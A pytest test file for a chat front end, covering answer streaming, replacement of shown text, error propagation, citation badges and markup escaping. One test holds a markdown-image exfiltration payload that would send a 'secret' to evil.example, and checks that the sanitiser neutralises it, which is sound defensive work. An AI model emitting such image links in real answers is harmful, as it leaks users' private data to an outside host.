"""An answer while it is written: what is drawn, and that a page never hangs on it."""

from __future__ import annotations

import threading
from collections.abc import Iterator

import pytest

from components.chat.answers import frames
from components.chat.citations import marked
from components.markup import harmless, plain, short
from core.errors import NotFound
from services.chat.streams import TurnEvent


def test_the_text_grows_and_ends_with_the_answer() -> None:
    events = [TurnEvent("token", "One "), TurnEvent("token", "two."), TurnEvent("done")]
    assert list(frames(events))[-1] == "One two."


def test_a_replacement_stands_for_all_that_was_shown() -> None:
    events = [TurnEvent("token", "Made up."), TurnEvent("token", "Refused.", replace=True), TurnEvent("done")]
    assert list(frames(events))[-1] == "Refused."


def test_waiting_for_the_first_word_gives_the_page_a_chance_to_stop() -> None:
    released = threading.Event()

    def slow() -> Iterator[TurnEvent]:
        released.wait(timeout=30)
        yield TurnEvent("done")

    shown = frames(slow())
    assert [next(shown), next(shown), next(shown)] == ["", "", ""]  # though no event has come
    released.set()
    assert all(text == "" for text in shown)


def test_what_breaks_the_following_off_is_raised_on_the_page() -> None:
    def broken() -> Iterator[TurnEvent]:
        yield TurnEvent("token", "Half")
        raise NotFound

    with pytest.raises(NotFound):
        list(frames(broken()))


def test_citations_become_badges_and_links_stay_links() -> None:
    assert marked("Paid in May [2].") == "Paid in May :primary-badge[2]."
    assert marked("See [3](https://example.com).") == "See [3](https://example.com)."


def test_an_answer_can_load_no_image_and_start_no_formula() -> None:
    assert harmless("![x](https://evil.example/?q=secret) for $5") == "!\\[x](https://evil.example/?q=secret) for \\$5"


def test_names_are_shown_as_they_are() -> None:
    assert plain("*Ann* [x](y)") == "\\*Ann\\* \\[x\\](y)"
    assert short("one two three", 9) == "one two…"
